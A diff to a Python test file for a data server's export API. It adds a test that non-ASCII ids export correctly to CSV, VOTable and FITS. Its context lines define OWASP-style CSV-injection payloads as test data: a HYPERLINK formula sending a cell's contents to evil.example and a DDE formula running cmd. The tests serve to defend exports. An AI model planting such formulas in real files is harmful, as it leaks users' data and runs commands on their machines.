@@ -496,6 +496,30 @@ def test_exports_are_named_for_the_run_and_the_selection(tmp_path):
         "tags": 'attachment; filename="s_r_e_7-run-tags.csv"'}
 
 
+def test_a_selection_with_text_fits_cannot_hold_is_a_client_error(tmp_path):
+    """A non-ASCII id, in a run folder with a non-ASCII name: CSV and VOTable export it,
+    FITS (ASCII text only) exports it or answers 422 saying what to use, never 500."""
+    from .run_folders import small_run
+
+    run = tmp_path / "rün"
+    small_run(run)
+    classes = pd.read_parquet(run / "classes.parquet")
+    classes.loc[0, "id_str"] = "gäl☃"  # the writer's own FITS cannot take it (issue 39)
+    classes.to_parquet(run / "classes.parquet")
+    server = Served(run, None)
+    try:
+        key = json.loads(raw_request(server, "POST", "/api/select", b'{"class": "A"}')[1])
+        answers = {kind: raw_request(server, "GET",
+                                     f"/api/selection/{key['selection']}/export.{kind}")
+                   for kind in ("csv", "vot", "fits")}
+    finally:
+        server.stop()
+    assert answers["csv"][0] == answers["vot"][0] == 200
+    assert "gäl☃" in answers["csv"][1].decode() and "gäl☃" in answers["vot"][1].decode()
+    status, body = answers["fits"]
+    assert status == 200 or (status == 422 and b"export CSV or VOTable" in body), (status, body)
+
+
 #: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
